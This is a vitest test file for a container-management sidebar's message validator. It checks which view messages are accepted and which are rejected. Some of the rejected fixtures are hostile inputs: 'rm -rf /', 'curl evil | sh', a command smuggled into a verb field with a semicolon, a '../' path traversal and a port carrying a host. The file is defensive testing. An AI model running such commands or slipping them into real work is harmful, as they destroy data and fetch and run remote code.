import { describe, expect, it } from 'vitest'
import { actions } from '../../src/engine/lifecycle.ts'
import { type FromView, isFromView, isToView } from '../../src/sidebar/protocol.ts'
import { actionNames } from '../../src/sidebar/row-protocol.ts'
import { idOf } from '../engine/still-engine.ts'

const id = idOf('a')

describe('the door of the host', () => {
  const welcome: readonly FromView[] = [
    { kind: 'ready' },
    { kind: 'look' },
    { kind: 'act', action: 'stop', id },
    { kind: 'act-on-all', action: 'stop', ids: [id, idOf('b')] },
    { kind: 'do', deed: 'rename', id },
    { kind: 'see', what: 'usage', id, isSeen: true },
    { kind: 'explain', topic: 'paused' },
    { kind: 'switch-engine' },
    { kind: 'logs', id },
    { kind: 'copy', command: { of: 'container', verb: 'logs', id } },
    { kind: 'type', command: { of: 'card', step: 0 } },
    { kind: 'type', command: { of: 'beginning' } },
    { kind: 'type', command: { of: 'journal', key: `${id} 7 paused` } },
    { kind: 'open-port', id, port: 8080 },
    { kind: 'take-step', step: 1 },
    { kind: 'dismiss-notice' },
    { kind: 'clear-journal' },
    { kind: 'choose-lesson' },
    { kind: 'image', deed: 'remove', id: `sha256:${id}` },
    { kind: 'images', deed: 'prune' },
    { kind: 'storage', of: 'volume', deed: 'remove', id: 'data' },
    { kind: 'storages', of: 'network', deed: 'create' },
    { kind: 'connection', deed: 'connect', id },
    { kind: 'copy', command: { of: 'connection', deed: 'disconnect', id } },
    { kind: 'transfer', wish: 'cancel', key: 1 },
    { kind: 'copy', command: { of: 'image', deed: 'push', id: `sha256:${id}` } },
    { kind: 'copy', command: { of: 'network', deed: 'inspect', id } },
    { kind: 'type', command: { of: 'login', key: 1 } },
  ]

  it.each(welcome)('lets $kind in', (message) => {
    expect(isFromView(message)).toBe(true)
  })

  it.each([
    ['nothing', undefined],
    ['a text', 'ready'],
    ['a list', ['ready']],
    ['an unknown wish', { kind: 'execute', command: 'rm -rf /' }],
    ['a name of every object', { kind: 'constructor' }],
    ['an action that there is not', { kind: 'act', action: 'prune', id }],
    ['a container by name', { kind: 'act', action: 'stop', id: 'hellonginx' }],
    ['a path for an ID', { kind: 'logs', id: `../${id}` }],
    ['one container by name among others', { kind: 'act-on-all', action: 'stop', ids: [id, 'hellonginx'] }],
    ['an action on nothing', { kind: 'act-on-all', action: 'stop', ids: [] }],
    ['a deed of its own', { kind: 'do', deed: 'execute', id }],
    ['half a look', { kind: 'see', what: 'usage', id }],
    ['half an action', { kind: 'act', action: 'stop' }],
    ['a command of its own', { kind: 'type', command: 'curl evil | sh' }],
    ['a verb of its own', { kind: 'type', command: { of: 'container', verb: 'stop; curl evil | sh', id } }],
    ['a step before the first', { kind: 'take-step', step: -1 }],
    ['an image by name', { kind: 'image', deed: 'remove', id: 'nginx' }],
    ['a deed on images of its own', { kind: 'images', deed: 'remove' }],
    ['a kind of storage that there is not', { kind: 'storage', of: 'secret', deed: 'remove', id: 'data' }],
    ['a volume without a name', { kind: 'storage', of: 'volume', deed: 'remove', id: '' }],
    ['a deed on networks of its own', { kind: 'connection', deed: 'rm', id }],
    ['a transfer by name', { kind: 'transfer', wish: 'cancel', key: 'nginx' }],
    ['no port', { kind: 'open-port', id, port: 0 }],
    ['a port that is more than a number', { kind: 'open-port', id, port: '80@evil.example' }],
  ])('keeps %s out', (_, message) => {
    expect(isFromView(message)).toBe(false)
  })
})

describe('the door of the view', () => {
  it('lets the messages of the host in, and no others', () => {
    expect(isToView({ kind: 'doing', doing: [] })).toBe(true)
    expect(isToView({ kind: 'ready' })).toBe(false)
    expect(isToView(null)).toBe(false)
  })
})

describe('the words of the wall', () => {
  it('are those of the lifecycle', () => {
    expect(actionNames).toEqual(actions)
  })
})
